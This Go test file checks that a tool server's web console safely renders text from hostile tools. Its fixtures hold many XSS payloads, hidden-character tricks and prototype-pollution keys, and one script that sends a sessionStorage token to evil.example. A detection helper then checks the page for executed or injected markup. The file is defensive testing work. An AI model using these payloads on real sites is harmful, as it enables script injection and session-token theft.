package browser_test

import (
	"context"
	"encoding/base64"
	"encoding/json"
	"strings"
	"testing"

	"github.com/toolsrv/toolsrv/wasmtools"
	"github.com/toolsrv/toolsrv/wasmtools/schema"
)

// Words that do harm if a page takes them for markup, an address or a name of its own.
var markup = strings.Join([]string{
	`<script>window.owned = 1</script>`, `<img src=x onerror="window.owned = 1">`, `<svg onload="window.owned = 1"><a href="javascript:window.owned=1">x</a></svg>`,
	`<iframe srcdoc="<script>top.owned = 1</script>"></iframe>`, `javascript:window.owned=1`, `" onmouseover="window.owned = 1`, `${window.owned = 1}`, `</textarea><style>*{display:none}</style>`,
	"\u202Egnp.exe\u200B\u2066\uFEFF", "<!--", "]]>", `{{constructor.constructor('window.owned = 1')()}}`, `<meta http-equiv="refresh" content="0;url=https://evil.example/">`, `<base href="https://evil.example/">`,
}, " ")

// A hostile is a tool with hostile text everywhere where a tool can have text.
type hostile struct {
	result []byte
	err    error
}

// Call answers with the text.
func (h hostile) Call(_ context.Context, call *wasmtools.Call) ([]byte, error) {
	call.Progress(1, 2, markup)
	return h.result, h.err
}

func hostileTool(name string, of hostile, result string) *wasmtools.Tool {
	word := strings.Repeat("W", 1_000_000)
	arguments := `{"type": "object", "title": ` + quoted(markup) + `, "description": ` + quoted(markup) + `, "properties": {` +
		quoted(markup) + `: {"type": "string", "title": ` + quoted(markup) + `, "description": ` + quoted(markup+word) + `, "default": ` + quoted(markup) + `, "examples": [` + quoted(markup) + `]},
		"__proto__": {"type": "string"}, "constructor": {"type": "integer"}, "toString": {"type": "array", "items": {"type": "string"}},
		"choice": {"enum": [` + quoted(markup) + `, "b"]}, "again": {"$ref": "#/$defs/a"}, "` + strings.Repeat("n", 2000) + `": {"type": "number"}},
		"$defs": {"a": {"type": "object", "required": ["a"], "properties": {"a": {"$ref": "#/$defs/a"}}}}}`
	t := &wasmtools.Tool{Name: name, Namespace: "evil", Title: strings.ReplaceAll(markup[:150], "\u202E", ""), Description: markup + word, Parameters: schema.MustCompile(arguments), Caller: of}
	if result != "" {
		t.Result = must(schema.Compile(json.RawMessage(result)))
	}
	return t
}

func must[T any](v T, err error) T {
	if err != nil {
		panic(err)
	}
	return v
}

// TestConsoleHostile shows and calls tools that attack whoever looks at them.
func TestConsoleHostile(t *testing.T) {
	t.Parallel()
	document := "<html><body onload='window.owned = 1'><script>fetch('https://evil.example/?' + sessionStorage.getItem(Object.keys(sessionStorage)[0]))</script>" + markup
	file := base64.StdEncoding.EncodeToString([]byte(document))
	server := serve(t, administered(),
		hostileTool("text", hostile{result: []byte(quoted(document))}, ""),
		hostileTool("html", hostile{result: []byte(quoted(file))}, `{"type": "string", "contentEncoding": "base64", "contentMediaType": "text/html"}`),
		hostileTool("svg", hostile{result: []byte(quoted(base64.StdEncoding.EncodeToString([]byte(`<svg xmlns="http://www.w3.org/2000/svg" onload="window.owned = 1"><script>owned = 1</script></svg>`))))}, `{"type": "string", "contentEncoding": "base64", "contentMediaType": "image/svg+xml"}`),
		hostileTool("lies", hostile{result: []byte(quoted(file))}, `{"type": "string", "contentEncoding": "base64", "contentMediaType": "image/png"}`),
		hostileTool("fails", hostile{err: &wasmtools.Error{Code: wasmtools.CodeToolError, Message: markup, ToolCode: "x", Data: json.RawMessage(quoted(markup))}}, ""),
		hostileTool("word", hostile{result: []byte(quoted(strings.Repeat("W", 3<<20)))}, ""),
	)
	p := open(t, server, "/console")
	p.tolerate("status of 401")
	p.read("wants a token")
	p.signIn(boss)
	p.read("6 tools")
	p.check()
	for _, name := range []string{"text", "html", "svg", "lies", "fails", "word"} {
		p.tool("/evil/" + name)
		p.call()
		p.do(script("document.querySelectorAll('details').forEach((d) => { d.open = true; })"))
		if name == "text" {
			p.check()
		}
		p.intact(name)
	}
	for _, page := range []string{"events", "log", "audit", "refused", "limits", "slow", "explain", "files", "callers", "you"} {
		p.do(script("location.hash = " + quoted("#/"+page)))
		p.until("!document.body.innerText.includes('Asking the server')")
		p.intact(page)
	}
}

// intact fails the test if the page has taken a tool's text for anything but text.
func (p *page) intact(where string) {
	p.t.Helper()
	if eval[bool](p, "window.owned !== undefined || ({}).owned !== undefined") {
		p.t.Errorf("%s: a tool's text was executed", where)
	}
	if found := eval[[]string](p, `[...document.querySelectorAll("body script, body style, iframe, object, embed, svg, base, meta[http-equiv], [onerror], [onload], [onmouseover], a[href^='javascript'], a[href^='blob'], a[href^='data']")].map((e) => e.outerHTML.slice(0, 200))`); len(found) > 0 {
		p.t.Errorf("%s: the page has %q", where, found)
	}
	if eval[bool](p, `/[\u202a-\u202e\u2066-\u2069\u200b\ufeff]/.test(document.body.innerText)`) {
		p.t.Errorf("%s: the page shows characters that hide or reverse the text beside them", where)
	}
	if beside := eval[int](p, "document.documentElement.scrollWidth - window.innerWidth"); beside > 0 {
		p.t.Errorf("%s: %d pixels of the page are outside the window", where, beside)
	}
	if nodes := eval[int](p, "document.body.innerText.length"); nodes > 200_000 {
		p.t.Errorf("%s: the page shows %d characters", where, nodes)
	}
}
